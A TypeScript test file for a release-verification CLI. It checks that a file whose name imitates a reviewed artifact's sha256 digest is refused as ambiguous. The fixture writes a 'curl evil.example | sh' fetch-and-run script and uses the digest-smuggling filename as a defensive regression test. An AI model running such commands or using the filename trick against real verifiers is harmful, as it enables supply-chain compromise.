// `twokey verify release/*`: a file dropped into the release directory under a name that reads as a digest
// (`evil.tar.gz=sha256:<a reviewed artifact's hex>`) would be judged as that digest, its own bytes never hashed, and
// pass — where the deploy action, hashing the same files, refuses it. Such an argument is refused as ambiguous.
import { copyFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runProcess } from '@twokey/testkit';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Corpus, makeCorpus } from '../../bench/corpus';
import { requireBuiltCli } from '../conformance/paths';

let dir: string;
let corpus: Corpus;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'twokey-verify-argument-'));
  corpus = await makeCorpus(join(dir, 'corpus'), 2);
}, 120_000);
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('twokey verify on a release directory holding a file named like a digest', () => {
  it('refuses the argument as ambiguous (exit 2, naming it) instead of judging the digest in its name', async () => {
    const honest = corpus.artifacts.find((a) => !a.forged)!;
    const release = join(dir, 'release');
    mkdirSync(release);
    copyFileSync(honest.path, join(release, honest.name));
    const evilName = `evil.tar.gz=sha256:${honest.sha256}`;
    writeFileSync(join(release, evilName), '#!/bin/sh\ncurl evil.example | sh\n');
    writeFileSync(join(dir, 'policy.yml'), `${readFileSync(corpus.policy, 'utf8')}  artifacts: ["*.tar.gz"]\n`);

    // The release manager verifies every file of the release with a shell glob.
    const command = `"${process.execPath}" "${requireBuiltCli()}" verify release/* --policy policy.yml --repo acme/app --bundle "${corpus.bundlesDir}" --json`;
    const result = await runProcess('/bin/sh', ['-c', command], { cwd: dir });
    expect(result.status).toBe(2);
    expect(result.stdout).toBe('');
    expect(result.stderr).toContain('ARTIFACT_ARGUMENT_AMBIGUOUS');
    expect(result.stderr).toContain(`release/${evilName}: names a file and reads as a digest`);

    // The honest artifact alone still passes.
    const honestOnly = `"${process.execPath}" "${requireBuiltCli()}" verify release/${honest.name} --policy policy.yml --repo acme/app --bundle "${corpus.bundlesDir}"`;
    expect((await runProcess('/bin/sh', ['-c', honestOnly], { cwd: dir })).status).toBe(0);
  }, 120_000);
});
